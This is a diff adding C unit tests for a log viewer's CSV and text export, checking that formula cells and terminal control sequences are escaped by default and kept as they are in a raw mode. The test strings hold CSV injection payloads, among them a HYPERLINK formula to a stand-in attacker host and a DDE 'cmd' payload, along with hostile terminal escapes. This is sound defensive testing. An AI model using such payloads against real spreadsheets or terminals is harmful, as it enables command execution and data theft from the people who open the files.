@@ -151,32 +151,98 @@ test_jsonl_golden (Fixture       *fixture,
   assert_golden ("records.jsonl", fixture->jsonl, strlen (fixture->jsonl));
 }
 
+static const char * const csv_extras[] = {
+  "user", "status", "latency", "cached", "parent", "tags", "ctx", "big", "huge", "off",
+  "missing", "cmd", "term", "minus", "plus", "at", NULL
+};
+
+/* Exports the records with every column to @name, and reads the file back
+ * with Python's csv module, cell for cell against the JSON Lines export, as
+ * check_csv.py expects the cells with or without --raw. */
+static char *
+export_csv_checked (Fixture    *fixture,
+                    const char *name,
+                    gboolean    raw,
+                    gsize      *length)
+{
+  LdExportOptions options = { LD_EXPORT_CSV };
+  g_autofree char *columns = g_strjoinv (",", (char **) ld_export_get_column_ids ());
+  g_autofree char *extra_list = g_strjoinv (",", (char **) csv_extras);
+  g_autofree char *jsonl_path = g_build_filename (fixture->dir, "records.jsonl", NULL);
+  g_autofree char *csv_path = g_build_filename (fixture->dir, name, NULL);
+  g_autofree char *script = peer_path ("check_csv.py");
+  g_autofree char *result = NULL, *expected = NULL;
+  char *csv;
+
+  options.extra_keys = csv_extras;
+  options.csv_raw = options.keep_control_chars = raw;
+  csv = export_file (fixture->snapshot, fixture->dir, name, &options, length);
+
+  result = run_python ((const char * const[]) { script, raw ? "--raw" : "--protected", csv_path,
+                                                jsonl_path, columns, extra_list, NULL },
+                       "UTC", NULL);
+  expected = g_strdup_printf ("ok %u\n", ld_export_snapshot_get_n_records (fixture->snapshot));
+  g_assert_cmpstr (result, ==, expected);
+
+  return csv;
+}
+
+/* By default, what a spreadsheet would run gets a "'" in front, and
+ * terminal controls are escaped; numbers stay numbers. */
 static void
 test_csv (Fixture       *fixture,
           gconstpointer  data)
 {
-  static const char * const extras[] = {
-    "user", "status", "latency", "cached", "parent", "tags", "ctx", "big", "huge", "off",
-    "missing", NULL
-  };
-  LdExportOptions options = { LD_EXPORT_CSV };
-  g_autofree char *columns = g_strjoinv (",", (char **) ld_export_get_column_ids ());
-  g_autofree char *extra_list = g_strjoinv (",", (char **) extras);
-  g_autofree char *csv = NULL, *jsonl_path = NULL, *csv_path = NULL, *script = NULL;
-  g_autofree char *result = NULL;
   gsize length;
+  g_autofree char *csv = export_csv_checked (fixture, "records.csv", FALSE, &length);
 
-  options.extra_keys = extras;
-  csv = export_file (fixture->snapshot, fixture->dir, "records.csv", &options, &length);
   assert_golden ("records.csv", csv, length);
   g_assert_true (g_str_has_prefix (csv, "time,level,levelno,logger,message,"));
+  g_assert_nonnull (strstr (csv, ",peer,protocol,extra,user,"));
 
-  jsonl_path = g_build_filename (fixture->dir, "records.jsonl", NULL);
-  csv_path = g_build_filename (fixture->dir, "records.csv", NULL);
-  script = peer_path ("check_csv.py");
-  result = run_python ((const char * const[]) { script, csv_path, jsonl_path, columns,
-                                                extra_list, NULL }, "UTC", NULL);
-  g_assert_cmpstr (result, ==, "ok 15\n");
+  g_assert_nonnull (strstr (csv, ",app.csv,\"'=HYPERLINK(\"\"http://attacker.example/"));
+  g_assert_nonnull (strstr (csv, ",'=cmd|' /C calc'!A0,"));
+  g_assert_nonnull (strstr (csv, ",\\x1b]0;owned\\x07\\x1b[2J \\x9b31m red \\x7f,"
+                                 "-4,'+1,'@SUM(A1)"));
+  g_assert_nonnull (strstr (csv, ",\"\\x1b[31mred\\x1b[0m, a CR\\x0d over it, a tab\t"
+                                 "and a CRLF\r\nline two\","));
+  g_assert_nonnull (strstr (csv, ",'-worker,"));
+  g_assert_null (strchr (csv, '\033'));
+}
+
+/* Asked for, cells are written as they are, and Python still reads them. */
+static void
+test_csv_raw (Fixture       *fixture,
+              gconstpointer  data)
+{
+  g_autofree char *csv = export_csv_checked (fixture, "raw.csv", TRUE, NULL);
+
+  g_assert_nonnull (strstr (csv, ",app.csv,\"=HYPERLINK(\"\"http://attacker.example/"));
+  g_assert_nonnull (strstr (csv, ",=cmd|' /C calc'!A0,"));
+  g_assert_nonnull (strstr (csv, ",\033]0;owned\007\033[2J \302\233" "31m red \177,"
+                                 "-4,+1,@SUM(A1)"));
+  g_assert_nonnull (strstr (csv, ",-worker,"));
+}
+
+/* The "extra" column is the JSON Lines export's "extra" object, written by
+ * the same code, so CSV loses none of the fields. */
+static void
+test_csv_extra_column (Fixture       *fixture,
+                       gconstpointer  data)
+{
+  static const char * const columns[] = { "message", "extra", NULL };
+  LdExportOptions options = { LD_EXPORT_CSV };
+  g_autofree char *csv = NULL;
+  gsize length;
+
+  options.columns = columns;
+  csv = export_file (fixture->snapshot, fixture->dir, "extra.csv", &options, &length);
+  g_assert_true (g_str_has_prefix (csv, "message,extra\r\n"
+                                        "GET /index 200,\"{\"\"user\"\":\"\"alice\"\","
+                                        "\"\"status\"\":200,\"\"latency\"\":0.25,"));
+  g_assert_nonnull (strstr (csv, "\r\nbare,\r\n"));
+  g_assert_nonnull (strstr (csv, "\"\"huge\"\":\"\"1e400\"\""));
+  g_assert_nonnull (strstr (csv, "\"\"term\"\":\"\"\\u001b]0;owned\\u0007"));
 }
 
 static void
@@ -208,6 +274,7 @@ typedef struct
   const char *datefmt;
   gboolean    utc;
   const char *tz;
+  gboolean    keep_control_chars;
 } TextCase;
 
 static const TextCase text_cases[] = {
@@ -240,6 +307,8 @@ static const TextCase text_cases[] = {
     "%d/%b/%Y:%H:%M:%S %z %Z %a %A %B %j %p %I %y %%", FALSE, "America/New_York" },
   { NULL, LD_LOG_STYLE_AUTO, "%(asctime)s %(message)s", NULL, FALSE, "Europe/Berlin" },
   { NULL, LD_LOG_STYLE_AUTO, "{asctime} {message}", "%H:%M:%S %Z", TRUE, "Europe/Berlin" },
+  { NULL, LD_LOG_STYLE_PERCENT, "%(levelname)s:%(name)s:%(message)s [%(term)s]", NULL, FALSE,
+    "UTC", TRUE },
 };
 
 static void
@@ -257,6 +326,7 @@ test_text (Fixture       *fixture,
   static const char styles[] = { '%', '%', '{', '$' };
   LdExportOptions options = { LD_EXPORT_TEXT };
   g_autofree char *text = NULL, *expected = NULL, *jsonl_path = NULL, *script = NULL;
+  g_autoptr(GPtrArray) args = NULL;
   char style[2] = { styles[test->style], 0 };
   gsize length, expected_length;
 
@@ -267,20 +337,74 @@ test_text (Fixture       *fixture,
   options.style = test->style;
   options.datefmt = test->datefmt;
   options.utc = test->utc;
+  options.keep_control_chars = test->keep_control_chars;
   text = export_file (fixture->snapshot, fixture->dir, "records.txt", &options, &length);
 
   jsonl_path = g_build_filename (fixture->dir, "records.jsonl", NULL);
   script = peer_path ("format_records.py");
-  expected = run_python ((const char * const[]) { script, jsonl_path, style, test->format,
-                                                  test->datefmt != NULL ? test->datefmt : "",
-                                                  test->utc ? "--utc" : NULL, NULL },
-                         test->tz, &expected_length);
+  args = g_ptr_array_new ();
+  g_ptr_array_add (args, script);
+  g_ptr_array_add (args, jsonl_path);
+  g_ptr_array_add (args, style);
+  g_ptr_array_add (args, (char *) test->format);
+  g_ptr_array_add (args, (char *) (test->datefmt != NULL ? test->datefmt : ""));
+  if (test->utc)
+    g_ptr_array_add (args, "--utc");
+  if (test->keep_control_chars)
+    g_ptr_array_add (args, "--keep-control-chars");
+  g_ptr_array_add (args, NULL);
+  expected = run_python ((const char * const *) args->pdata, test->tz, &expected_length);
   g_assert_cmpstr (text, ==, expected);
   g_assert_cmpuint (length, ==, expected_length);
 
   if (test->golden != NULL)
     assert_golden (test->golden, text, length);
   set_tz ("UTC");
+}
+
+/* Terminal controls are escaped, while a traceback keeps its lines and a
+ * CRLF stays; asked for, the text is written as it is. */
+static void
+test_text_controls (Fixture       *fixture,
+                    gconstpointer  data)
+{
+  LdExportOptions options = { LD_EXPORT_TEXT };
+  g_autofree char *text = NULL, *raw = NULL;
+
+  options.log_format = "%(message)s";
+  text = export_file (fixture->snapshot, fixture->dir, "controls.txt", &options, NULL);
+  g_assert_nonnull (strstr (text, "\n\\x1b[31mred\\x1b[0m, a CR\\x0d over it, a tab\tand a CRLF\r\n"
+                                  "line two\nTraceback (most recent call last):\n  File "));
+  g_assert_null (strchr (text, '\033'));
+  g_assert_null (strchr (text, '\001'));
+  g_assert_null (strstr (text, "\302\233"));
+
+  options.keep_control_chars = TRUE;
+  raw = export_file (fixture->snapshot, fixture->dir, "raw.txt", &options, NULL);
+  g_assert_nonnull (strstr (raw, "\n\033[31mred\033[0m, a CR\r over it, a tab\tand a CRLF\r\n"
+                                 "line two\nTraceback (most recent call last):\n  File "));
+}
+
+static void
+test_internal (void)
+{
+  static const struct { const char *logger; gboolean internal; } cases[] = {
+    { "logdeck", TRUE }, { "logdeck.ingest", TRUE }, { "logdeck.import", TRUE },
+    { "logdeck.ui.window", TRUE }, { "logdeckx", FALSE }, { "logdeck-app", FALSE },
+    { "app.logdeck", FALSE }, { "", FALSE }, { NULL, FALSE },
+  };
+
+  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
+    {
+      g_autoptr(LdBatch) batch = ld_batch_new ();
+      LdRecordFields fields = { .level = LD_LEVEL_WARNING, .logger = cases[i].logger };
+      LdRecord record;
+
+      ld_batch_add (batch, &fields);
+      record = export_batch_record (batch, 0);
+      g_test_message ("%s", cases[i].logger);
+      g_assert_cmpint (ld_export_record_is_internal (&record), ==, cases[i].internal);
+    }
 }
 
 static void
@@ -558,13 +682,19 @@ main (int   argc,
   g_test_add ("/export/csv/python", Fixture, NULL, fixture_set_up, test_csv, fixture_tear_down);
   g_test_add ("/export/csv/columns", Fixture, NULL, fixture_set_up, test_csv_columns,
               fixture_tear_down);
+  g_test_add ("/export/csv/raw", Fixture, NULL, fixture_set_up, test_csv_raw, fixture_tear_down);
+  g_test_add ("/export/csv/extra-column", Fixture, NULL, fixture_set_up, test_csv_extra_column,
+              fixture_tear_down);
   for (guint i = 0; i < G_N_ELEMENTS (text_cases); i++)
     {
       g_autofree char *name = g_strdup_printf ("/export/text/python/%u", i);
 
       g_test_add (name, Fixture, &text_cases[i], fixture_set_up, test_text, fixture_tear_down);
     }
+  g_test_add ("/export/text/controls", Fixture, NULL, fixture_set_up, test_text_controls,
+              fixture_tear_down);
   g_test_add_func ("/export/text/bad-formats", test_text_bad_formats);
+  g_test_add_func ("/export/internal", test_internal);
   g_test_add_func ("/export/text/fields", test_text_fields);
   g_test_add ("/export/snapshot/store", Fixture, NULL, fixture_set_up, test_snapshot_from_store,
               fixture_tear_down);
